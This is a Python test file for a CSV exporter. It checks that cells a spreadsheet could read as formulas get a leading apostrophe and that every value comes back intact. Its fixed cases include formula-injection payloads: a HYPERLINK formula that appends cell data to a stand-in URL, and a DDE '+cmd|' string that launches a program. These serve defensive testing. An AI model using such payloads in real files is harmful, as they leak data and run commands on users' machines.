"""CSV for spreadsheet programs: no text is a formula, numbers stay numbers, nothing is lost."""

import csv
import io

from hypothesis import given
from hypothesis import strategies as st

from annotate.formats.csv_rows import CsvTable
from annotate.formats.limits import Limits
from annotate.formats.open_file import OpenFile
from annotate.formats.spreadsheets import escaped, for_spreadsheets, unescaped
from annotate.formats.writing import csv_line
from tests.cases import each

SIGNS = st.text(alphabet="=+-@\t\r\n '\"＝\u200b\ufeff1.5eE;ab")


@given(st.text() | SIGNS)
def test_every_text_comes_back(text):
    assert unescaped(escaped(text)) == text


@given(st.text() | SIGNS)
def test_escaping_only_adds_an_apostrophe(text):
    assert escaped(text) in {text, f"'{text}"}


@each(
    "text",
    [
        "=1+1", '=HYPERLINK("http://example.org/?"&A1)', "+1+1", "-1+1", "@SUM(A1)", "\t=1",
        "\ttext", "\rtext", "\ntext", "  =1+1", '"=1+1"', "'=1+1", "“=1+1”", "\u200b=1", "\ufeff=1",
        "\u00a0=1", "＝1+1", "＋1", "－1+1", "＠SUM(A1)", "-", "--", "-1.5.2", "+cmd|' /C calc'!A0",
        "=1\n", "-1\n", "- a list",
    ],
)  # fmt: skip
def test_possible_formulas_are_escaped(text):
    assert escaped(text) == f"'{text}"


@each(
    "text", ["", "-1", "+2.5", "-1e-05", "-.5", "1+1", "a=b", "post-hoc, = 50 %", "2024-05-01", "'"]
)
def test_numbers_and_other_text_stay_as_they_are(text):
    assert escaped(text) == text


ROWS = st.lists(
    st.tuples(*[st.text(st.characters(codec="utf-8", exclude_characters="\0")) | SIGNS] * 3).filter(
        lambda row: any(row)
    ),
    max_size=5,
)


@given(ROWS)
def test_spreadsheet_form_restores_every_cell(tmp_path_factory, rows):
    lines = list(for_spreadsheets(map(csv_line, [("a", "b", "c"), *rows])))
    path = tmp_path_factory.mktemp("csv") / "some.csv"
    path.write_text("".join(lines), encoding="utf-8", newline="")
    table = CsvTable(OpenFile(path, Limits()))
    header = table.header(["a", "b", "c"], only=True)
    found = [tuple(row) for _, row in table.rows(header)]  # type: ignore[misc]
    assert found == rows
    for row in csv.reader(io.StringIO("".join(lines).removeprefix("\ufeff"), newline="")):
        assert [escaped(unescaped(cell)) for cell in row] == row
        assert len(row) == 4
